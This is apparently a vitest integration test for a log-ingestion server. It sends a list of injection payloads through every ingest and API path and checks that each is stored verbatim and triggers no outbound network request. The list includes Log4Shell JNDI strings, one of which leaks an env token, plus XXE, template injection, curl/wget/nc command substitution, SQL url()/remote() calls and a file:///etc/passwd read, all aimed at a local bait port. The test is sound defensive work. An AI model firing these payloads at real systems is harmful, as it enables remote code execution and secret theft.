import { appendFile, readFile, writeFile } from 'node:fs/promises';
import { createSocket } from 'node:dgram';
import { connect, createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventFields, fieldNames } from '../../shared/event/fields.ts';
import { ownFields } from '../../shared/event/own-fields.ts';
import { signInByApi, type ApiSession } from './api-session.ts';
import { freePort, privateFolder, startSiaga, writeRegister, type SiagaProcess } from './siaga-process.ts';

const env = { WEB_TOKEN: 'token-of-outgoing-web-0123456', SIPOL_TOKEN: 'token-of-outgoing-sipol-01234' };

/** Whatever follows an address of a payload comes here; nothing else does. Native code is seen by it too, which no spy in Node sees. */
const bait = createServer((socket) => {
  bites += 1;
  socket.on('error', () => undefined);
  socket.destroy();
});
let bites = 0;

let folder: Awaited<ReturnType<typeof privateFolder>>;
let siaga: SiagaProcess;
let api: ApiSession;
let spyFile: string;
let baitPort: number;
let syslog: { udp: number; tcp: number };

interface Sighting {
  readonly what: string;
  readonly to: string;
  readonly threadId: number;
}
const sightings = async (): Promise<Sighting[]> =>
  (await readFile(spyFile, 'utf8'))
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Sighting);
const outgoing = async (): Promise<Sighting[]> =>
  (await sightings()).filter(({ what }) => what !== 'watching');

beforeAll(async () => {
  folder = await privateFolder();
  await new Promise<void>((resolve) => bait.listen(0, '127.0.0.1', resolve));
  baitPort = (bait.address() as AddressInfo).port;
  syslog = { udp: await freePort(), tcp: await freePort() };
  const port = await freePort();
  const config = join(folder.folder, 'siaga.yaml');
  await writeFile(join(folder.folder, 'access.log'), '');
  await writeFile(
    config,
    [
      `parties: ${await writeRegister(folder.folder)}`,
      `server: { origins: ['http://127.0.0.1:${port}'] }`,
      'sources:',
      '  - { id: web, kind: http, format: auto, tokenEnv: WEB_TOKEN, expectEvery: never, logins: true }',
      '  - { id: sipol, kind: http, format: ecs-json, tokenEnv: SIPOL_TOKEN, expectEvery: never }',
      '  - { id: file, kind: file, path: access.log, logins: true, expectEvery: never }',
      `  - { id: syslog, kind: syslog, udp: "127.0.0.1:${syslog.udp}", tcp: "127.0.0.1:${syslog.tcp}", expectEvery: never }`,
      // Asked for nothing until somebody signs in by it: what shows, at the end, that the spy sees.
      'oidc:',
      `  issuer: http://localhost:${baitPort}`,
      '  clientId: siaga',
      '  clientSecretEnv: OIDC_SECRET',
      '  label: SSO',
      `  redirectOrigin: http://127.0.0.1:${port}`,
      '  claims: { role: groups }',
      '  roles: { siaga-analyst: analyst }',
      '',
    ].join('\n'),
  );
  spyFile = join(folder.folder, 'network.ndjson');
  await writeFile(spyFile, '');
  siaga = await startSiaga({
    folder: folder.folder,
    args: ['--config', config],
    env: {
      ...env,
      OIDC_SECRET: 'secret-of-the-outgoing-test-01',
      NODE_OPTIONS: `--import=${join(import.meta.dirname, 'network-spy.mjs')}`,
      NETWORK_SPY_FILE: spyFile,
    },
    port,
  });
  api = await signInByApi(siaga.url, siaga.oneTimePassword());
});
afterAll(async () => {
  await siaga?.stop();
  bait.close();
  await folder?.remove();
});

/** What would fetch, resolve or connect if anything evaluated it; each names the bait, or a host that nobody has. */
function payloads(): string[] {
  const host = `127.0.0.1:${baitPort}`;
  return [
    `\${jndi:ldap://${host}/a}`,
    `\${jndi:dns://hostile.invalid/a}`,
    `\${\${lower:j}ndi:\${lower:r}mi://${host}/a}`,
    `\${\${::-j}\${::-n}di:ldap://${host}/\${env:SIPOL_TOKEN}}`,
    `http://${host}/a`,
    `//${host}/a`,
    `<img src=http://${host}/a>`,
    `<!DOCTYPE x [<!ENTITY % y SYSTEM "http://${host}/a"> %y;]>`,
    `{{constructor.constructor('fetch("http://${host}/a")')()}}`,
    `\${fetch('http://${host}/a')}`,
    `<%= require('http').get('http://${host}/a') %>`,
    `#{7*7}$(curl http://${host}/a)\`wget http://${host}/a\``,
    `|nc 127.0.0.1 ${baitPort}`,
    `' UNION ALL SELECT * FROM url('http://${host}/a','CSV','x String') --`,
    `x') UNION ALL SELECT * FROM remote('${host}', system.one) --`,
    `'; INSERT INTO FUNCTION url('http://${host}/a','CSV','x String') VALUES ('x'); --`,
    `=WEBSERVICE("http://${host}/a")`,
    `%s%s%n hostile.invalid`,
    `javascript:fetch('http://${host}/a')`,
    `file:///etc/passwd`,
  ];
}

const stamp = (): string => {
  const [, day, month, year, clock] = /^\w+, (\d+) (\w+) (\d+) (\S+)/.exec(new Date().toUTCString()) ?? [];
  return `${day}/${month}/${year}:${clock} +0000`;
};
const escaped = (text: string): string => text.replaceAll('\\', '\\\\').replaceAll('"', '\\"');
/** Each field of a line in the combined format. */
const accessLines = (text: string): string[] => [
  `192.0.2.7 - ${text.replaceAll(' ', '+')} [${stamp()}] "POST /login HTTP/1.1" 401 5 "${escaped(text)}" "${escaped(text)}"`,
  `192.0.2.7 - - [${stamp()}] "GET /?${escaped(text).replaceAll(' ', '+')} HTTP/1.1" 200 5 "-" "-"`,
  `${text.replaceAll(' ', '+')} - - [${stamp()}] "GET / HTTP/1.1" 200 5 "-" "-"`,
  text,
];

const settable = fieldNames.filter((name) => eventFields[name].type === 'string' && !ownFields.has(name));
const eventOf = (text: string): string =>
  JSON.stringify({
    ...Object.fromEntries(settable.map((name) => [name, text])),
    '@timestamp': new Date().toISOString(),
    'event.kind': 'event',
    'event.action': 'user-login',
    'event.outcome': 'failure',
  });

async function send(source: 'web' | 'sipol', lines: readonly string[]): Promise<void> {
  const token = source === 'web' ? env.WEB_TOKEN : env.SIPOL_TOKEN;
  const answer = await fetch(`${siaga.url}/ingest/v1/${source}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: lines.join('\n'),
  });
  expect(answer.status, await answer.text()).toBe(200);
}

async function sendSyslog(lines: readonly string[]): Promise<void> {
  const messages = lines.map((line) => `<13>1 - host.example app - - - ${line}`);
  const socket = connect(syslog.tcp, '127.0.0.1');
  await new Promise<void>((resolve) => socket.end(`${messages.join('\n')}\n`, resolve));
  const sender = createSocket('udp4');
  for (const message of messages)
    await new Promise((resolve) => {
      sender.send(message, syslog.udp, '127.0.0.1', resolve);
    });
  sender.close();
}

/** Every way in which a text of somebody else's reaches the API. */
async function askWith(text: string): Promise<void> {
  const { cookie } = api;
  const range = `from=${Date.now() - 3_600_000}&to=${Date.now() + 60_000}`;
  const said = encodeURIComponent(text);
  const header = text.replaceAll(/[^\x20-\x7e]/g, '');
  const get = (path: string) =>
    fetch(siaga.url + path, {
      headers: { cookie, 'user-agent': header, referer: header, 'x-forwarded-for': header },
    });
  await get(`/api/events?${range}&text=${said}`);
  await get(`/api/events?${range}&filter=user_agent.original:${said}`);
  await get(`/api/events/top?${range}&field=user.name&filter=!user.name:${said}`);
  await get(`/api/parties/${said}`);
  await get(`/api/oidc/begin?next=${said}`);
  await fetch(`${siaga.url}/api/session`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: siaga.url, 'user-agent': header },
    body: JSON.stringify({ name: text.slice(0, 100), password: text }),
  });
}

describe('S-36: what is in a line', () => {
  it('is stored as it is by every way in, and makes the server connect to nobody and look up no name', async () => {
    // In the main thread and in the pipeline's.
    await expect
      .poll(async () => new Set((await sightings()).map(({ threadId }) => threadId)).size)
      .toBeGreaterThan(1);
    const before = await outgoing();
    const texts = payloads();
    const lines = texts.flatMap(accessLines);
    await send('sipol', texts.map(eventOf));
    await send('web', lines);
    await appendFile(join(folder.folder, 'access.log'), `${lines.join('\n')}\n`);
    await sendSyslog(lines);
    for (const text of texts) await askWith(text);
    await expect.poll(() => api.storedOf('file'), { timeout: 30_000 }).toBe(lines.length);
    await expect.poll(() => api.storedOf('syslog'), { timeout: 30_000 }).toBe(2 * lines.length);
    expect(await api.storedOf('web')).toBe(lines.length);

    const sipol = await api.eventsOf('sipol');
    expect(new Set(sipol.map((event) => event['user.name']))).toEqual(new Set(texts));
    expect(new Set(sipol.map((event) => event['user_agent.original']))).toEqual(new Set(texts));
    const raw = (await api.eventsOf('web')).map((event) => event['event.original']);
    expect(new Set(raw)).toEqual(new Set(lines));

    expect(await outgoing()).toEqual(before);
    expect(bites).toBe(0);
  });

  it('would have been seen: the spy and the bait see a request that the server is configured to make', async () => {
    const before = (await outgoing()).length;
    const answer = await fetch(`${siaga.url}/api/oidc/begin`, { redirect: 'manual' });
    expect(answer.headers.get('location')).toBe('/?oidc=refused&why=unreachable');
    const seen = (await outgoing()).slice(before).map(({ what, to }) => `${what} ${to}`);
    expect(seen.join('\n')).toMatch(new RegExp(`net\\.connect .*localhost ${baitPort}`));
    expect(seen.join('\n')).toContain('dns.lookup localhost');
    expect(bites).toBeGreaterThan(0);
  });
});
